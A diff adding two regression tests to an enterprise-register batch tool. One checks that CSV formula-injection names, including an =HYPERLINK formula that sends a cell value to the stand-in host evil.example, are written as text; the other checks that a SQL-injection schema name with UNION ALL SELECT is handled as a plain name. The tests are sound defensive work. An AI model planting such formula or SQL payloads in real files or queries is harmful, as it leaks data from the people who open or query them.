@@ -696,3 +696,46 @@ def test_departments_listed_in_another_order_are_one_line(tmp_path: Path, capsys
     assert main(["batch", str(register), "--engine", engine_name, "--as-of", "2025-12-31", "--json"]) == 0
     by = json.loads(capsys.readouterr().out)["by"]["department"]
     assert list(by) == ["区工信局、区科技局"] and by["区工信局、区科技局"]["count"] == 2
+
+
+def test_text_that_excel_would_run_as_a_formula_is_written_as_text_in_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """An enterprise named =HYPERLINK("http://…"&A2) became a live formula when the officer opened the
+    CSV results in Excel (the file is UTF-8 with BOM, for Excel): it is now written after a '."""
+    codes = [make_credit_code(f"91320506MA1XG{i:04d}") for i in range(4)]
+    names = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "@SUM(1+1)", "-1+1", "示例企业"]
+    enterprises = "credit_code,name,region,town\n" + "".join(
+        f'{c},"{n.replace(chr(34), chr(34) * 2)}",320506,木渎镇\n' for c, n in zip(codes, names, strict=True)
+    )
+    events = "credit_code,id,kind,date,category,amount\n" + "".join(
+        f"{c},E1,purchase,2025-06-01,机器人产品或服务,{'-5' if i == 3 else '80万元'}\n" for i, c in enumerate(codes)
+    )
+    register = csv_register(tmp_path, enterprises, events)
+    out = tmp_path / "结果.csv"
+    assert main(["batch", str(register), "--as-of", "2025-12-31", "--out", str(out)]) == 0
+    capsys.readouterr()
+    with out.open(encoding="utf-8-sig") as fh:
+        shown = {r["企业名称"] for r in csv.DictReader(fh)}
+    assert shown == {"'" + n for n in names[:3]}  # the fourth's only event is refused: no row
+    with (tmp_path / "结果.问题.csv").open(encoding="utf-8-sig") as fh:
+        values = [r for r in csv.DictReader(fh)]
+    assert any(v["值"] == "-5" for v in values)  # a number stays a number
+
+
+def test_a_schema_name_is_a_name_not_sql(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """`--schema 'a"b'` ended in a DuckDB ParserException traceback on the reference engine, and a
+    schema named to close the quote ran the rest of its name as SQL (read_text of a local file)."""
+    import duckdb
+
+    path = tmp_path / "登记表.duckdb"
+    schema = 'p"."enterprises" UNION ALL SELECT \'LEAK\' --'
+    con = duckdb.connect(str(path))
+    con.execute(f'CREATE SCHEMA "{schema.replace(chr(34), chr(34) * 2)}"')
+    con.execute(f'CREATE TABLE "{schema.replace(chr(34), chr(34) * 2)}".enterprises (credit_code VARCHAR, name VARCHAR, region VARCHAR)')
+    con.execute(f"INSERT INTO \"{schema.replace(chr(34), chr(34) * 2)}\".enterprises VALUES ('{make_credit_code('91320506MA1XH0000')}', '示例', '320506')")
+    con.close()
+    for engine_name in ("reference", "duckdb"):
+        assert main(["batch", str(path), "--schema", schema, "--engine", engine_name, "--as-of", "2025-12-31", "--json"]) == 0
+        data = json.loads(capsys.readouterr().out)
+        assert data["rows"]["enterprises"] == {"read": 1, "rejected": 0, "accepted": 1}, engine_name
+    assert main(["batch", str(path), "--schema", 'a"b', "--engine", "reference"]) == 2
+    assert "Traceback" not in capsys.readouterr().err
